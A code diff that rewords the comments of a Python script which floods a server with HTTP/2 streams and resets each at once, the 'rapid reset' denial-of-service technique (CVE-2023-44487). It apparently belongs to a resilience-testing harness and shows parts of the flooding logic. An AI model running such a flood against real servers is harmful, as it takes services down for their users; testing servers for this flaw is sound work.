@@ -1,9 +1,8 @@
-"""Opens streams of HTTP/2 and resets each at once, as fast as one core has room for ("rapid reset", CVE-2023-44487).
+"""Opens HTTP/2 streams and resets each at once, as fast as one core permits ("rapid reset", CVE-2023-44487).
 
-Called by rapid_reset.py as `reset_flood.py PORT AUTHORITY PATH STREAMS LEAST MOST`; announces its beginning, then
-writes JSON.
-A connection that is ended, or on which nothing goes on for a second, is followed by another, until so many streams were
-sent and the least of seconds is over, or the most of them.
+Called by rapid_reset.py as `reset_flood.py PORT AUTHORITY PATH STREAMS LEAST MOST`. Announces its start, then prints
+JSON. A connection that is closed, or stalls for a second, is replaced by another, until STREAMS streams were sent and
+LEAST seconds have passed, or until MOST seconds have passed.
 """
 
 from __future__ import annotations
@@ -19,14 +18,14 @@ from hpack import Encoder, NeverIndexedHeaderTuple
 from hyperframe.frame import GoAwayFrame, HeadersFrame, RstStreamFrame, SettingsFrame
 
 AT_ONCE = 64
-"""Streams to a write."""
+"""Number of streams in a write."""
 CANCEL = 8
 
 
 def main() -> None:
     port, authority, path = int(sys.argv[1]), sys.argv[2], sys.argv[3]
     streams, least, most = int(sys.argv[4]), float(sys.argv[5]), float(sys.argv[6])
-    # With low priority: the other processes on this core are measured.
+    # Low priority: other processes on this core are measured.
     os.nice(10)
     context = ssl._create_unverified_context()
     context.set_alpn_protocols(["h2"])
@@ -50,7 +49,7 @@ def main() -> None:
 
 
 def blocks(authority: str, path: str, streams: int) -> list[bytes]:
-    """The bytes of every connection, one piece after another: fields are never indexed, so all pieces are alike."""
+    """Yields the bytes of a connection in pieces. Header fields are never indexed, so all pieces are alike."""
     fields = [(":method", "GET"), (":scheme", "https"), (":authority", authority), (":path", path)]
     section = Encoder().encode([NeverIndexedHeaderTuple(*field) for field in fields], huffman=False)
     pieces = []
@@ -65,7 +64,7 @@ def blocks(authority: str, path: str, streams: int) -> list[bytes]:
 
 
 def flood(secure: ssl.SSLSocket, writes: list[bytes], end: float) -> tuple[int, bool]:
-    """One connection: how many streams were sent on it, and whether the other side said farewell."""
+    """Floods one connection. Returns the number of streams sent, and whether the peer sent GOAWAY."""
     secure.settimeout(1)
     secure.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize())
     sent, is_farewell = 0, False
@@ -89,8 +88,8 @@ def flood(secure: ssl.SSLSocket, writes: list[bytes], end: float) -> tuple[int, 
 
 
 def has_farewell(data: bytes) -> bool:
-    """Whether frames that begin here hold a GOAWAY. A read that begins within a frame may hide one: then the end of the
-    connection tells."""
+    """Returns whether the frames that begin here include GOAWAY. A read that begins within a frame can hide one; then
+    the end of the connection is decisive."""
     at = 0
     while at + 9 <= len(data):
         if data[at + 3] == GoAwayFrame.type:
